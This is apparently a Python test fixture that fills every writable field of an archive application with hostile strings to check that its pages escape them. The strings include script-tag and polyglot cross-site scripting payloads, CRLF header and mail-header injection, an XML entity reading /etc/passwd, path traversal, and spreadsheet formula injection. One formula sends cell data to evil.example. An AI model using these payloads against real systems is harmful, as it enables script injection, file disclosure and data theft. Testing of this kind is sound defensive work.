"""Words that attack whatever shows them, and an archive in which every field holds some."""

from dataclasses import replace

from entries import ACCOUNT, ENROLMENT, at
from onrecord.archive import Archive
from onrecord.desk.declarations.declaring import Draft, declare
from onrecord.desk.documents import put_on_record
from onrecord.record.accounts import AccountId, Handle, Ref, Voucher
from onrecord.record.commitments import Digest
from onrecord.record.declarations import Act, Capacity, Denied, Ground, ScopeKind
from onrecord.record.documents import CaseChange
from onrecord.record.editing import (
    Asks,
    Correction,
    CorrectionRequest,
    Decision,
    RequestAnswer,
)
from onrecord.record.institutions import Authority, Institution, InstitutionChannel, InstitutionKind
from onrecord.record.observations import Surface
from onrecord.record.outcomes import Absent, Identity, Refused, Vouched
from small_log import TestSigner
from vantages_made_up import distrust, vantage
from web.ministry import Maker, ref

__all__ = ["CASE", "RAN", "SECRET", "WORDS", "fill_hostile", "hostile_refs"]

RAN = "window.ran = (window.ran || 0) + 1"
_CODE = f"{RAN}; alert(1)"
SECRET = "only-an-editor-reads-this"
CASE = "hostile"

WORDS = {
    "script": f"<script>{_CODE}</script>",
    "polyglot": (
        f"javascript:/*--></title></style></textarea></script></xmp>'\"`<svg/onload='{_CODE}'>"
        f'<img src=x onerror="{_CODE}"><a href=javascript:{_CODE}>{{{{7*7}}}}{{% raw %}}%(id)s'
    ),
    "attributes": f'" onmouseover="{_CODE}" autofocus onfocus=\'{_CODE}\' x="',
    "linked data": f"</script><script>{_CODE}</script><!--<script>\u2028\u2029]]>",
    "right to left": "\u202egpj.exe\u2066\u2067abc\u2069 שלום \u200f(1)",
    "unseen": "a\x00b\x01c\x07d\x08e\x0bf\x0cg\x1fh\x7fi\x85j\x9bk\ufeffl\u200bm\ufffen\uffff",
    "terminal": "\x1b[31mred\x1b[0m\x1b]0;title\x07\x1b[2J\x9b31m",
    "marks": "Z" + "\u0300\u0489\u0336" * 200 + "algo",
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "formulas": "+1+cmd|' /C calc'!A0\t-2\t@SUM(1+1)",
    "headers": f"a\r\nset-cookie: taken=1\r\n\r\n<script>{_CODE}</script>",
    "mail": "a\nBcc: everybody@evil.example\n\nX",
    "entities": "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>&a;<![CDATA[",
    "path": "../../../../etc/passwd\\..\\C:",
    "emoji": "👩‍👩‍👧‍👦🏳️‍🌈" * 50,
    "long": f"{'A' * 1_000_000}<script>{_CODE}</script>",
}


def hostile_refs() -> dict[str, Ref]:
    """The post of each."""
    return {name: ref(f"h{number}") for number, name in enumerate(WORDS)}


def fill_hostile(archive: Archive) -> None:
    """Put them on record, in every field that others may write."""
    whole = "".join(words for name, words in WORDS.items() if name not in ("long", "marks"))
    voucher = Voucher(
        by=whole, where=f"https://evil.example/\"'><script>{_CODE}</script>", words=whole
    )
    handle = Handle(WORDS["polyglot"])
    line = whole.replace("\n", " ")  # the desk takes no other name, and addresses hold none
    enrolled = replace(ENROLMENT, institution=line, handle=handle, voucher=voucher)
    put_on_record(archive, enrolled, at(0), accounts=(ACCOUNT,))
    made = Maker(archive)
    made.account(Identity((handle,), whole, f"https://{WORDS['attributes']}", whole), 1)
    made.account(Vouched(whole, "link", whole), 2, Surface.VOUCHER)
    for number, (name, words) in enumerate(WORDS.items()):
        made.seen(f"h{number}", 10 + number, text=words, langs=[WORDS["attributes"]])
        made.seen(f"h{number}", 40 + number, text=f"{words} {name}", embed=_pictured(words))
        made.looked(f"h{number}", Refused(words[:2000]), 80 + number)
        made.looked(f"h{number}", Absent(words[:2000]), 110 + number)
    _speak(archive, whole)
    _name(archive, line, voucher)
    _edit(archive, whole)
    _look_from_elsewhere(archive, whole)
    archive.publish()


def _look_from_elsewhere(archive: Archive, whole: str) -> None:
    signer = TestSigner("hostile.example", seed=21)
    put_on_record(
        archive, vantage(signer, place=whole, operator=whole, by=whole, why=whole), at(220)
    )
    put_on_record(archive, replace(distrust(at(1), signer), why=whole, by=whole), at(221))


def _pictured(words: str) -> dict[str, object]:
    link = bytes.fromhex("01551220" + "ab" * 32)
    blob = {"$type": "blob", "ref": link, "mimeType": words[:200], "size": 1}
    return {"$type": "app.bsky.embed.images", "images": [{"alt": words, "image": blob}]}


def _speak(archive: Archive, whole: str) -> None:
    declare(
        archive,
        Draft(
            speaker=whole,
            capacity=Capacity.INSTITUTION,
            institution=whole.replace("\n", " "),
            words=whole,
            language="en",
            said_at=at(200),
            act=Act.DISOWNS,
            accounts=(ACCOUNT,),
            channel=whole,
            channel_url=f"javascript:{_CODE}",
            denies=(Denied.AUTHORSHIP,),
            ground=Ground.COMPROMISE,
            ground_words=whole,
            kinds=(ScopeKind.POSTS,),
            begins_at=at(0),
            scope_words=whole,
        ),
        at(210),
    )


def _name(archive: Archive, whole: str, voucher: Voucher) -> None:
    above = f"Above {whole}"
    for name, under in ((whole, above), (above, None)):
        stated = Institution(
            name=name,
            kind=InstitutionKind.OTHER,
            under=under,
            also_named=(f"Also {name}",),
            voucher=voucher,
        )
        put_on_record(archive, stated, at(220))  # past what the desk refuses
    office = Authority(
        speaker=whole,
        institution=whole,
        capacity=Capacity.INSTITUTION,
        accounts=(),
        since=at(0),
        until=None,
        voucher=voucher,
    )
    site = InstitutionChannel(
        name=whole,
        url=f"data:text/html,<script>{_CODE}</script>",
        institution=whole,
        shares_access_with=(ACCOUNT,),
        independent_of=(AccountId(whole),),
        voucher=voucher,
    )
    put_on_record(archive, office, at(221))
    put_on_record(archive, site, at(222))


def _edit(archive: Archive, whole: str) -> None:
    posts = tuple(hostile_refs().values())
    opened = CaseChange(case=CASE, title=whole, adds=posts, removes=(), note=whole)
    put_on_record(archive, opened, at(230), accounts=(ACCOUNT,), posts=posts)
    corrected = Correction(case=CASE, said=whole, instead=whole, why=whole, editor=whole)
    put_on_record(archive, corrected, at(231), accounts=(ACCOUNT,), posts=posts[:3])
    asked = CorrectionRequest(
        about=whole, asks=Asks.OTHER, words=f"{whole}{SECRET}", contact=SECRET
    )
    logged = put_on_record(archive, asked, at(232))
    answer = RequestAnswer(
        request=Digest(logged.digest), decision=Decision.REFUSED, words=whole, editor=whole
    )
    put_on_record(archive, answer, at(233), posts=posts[:1])
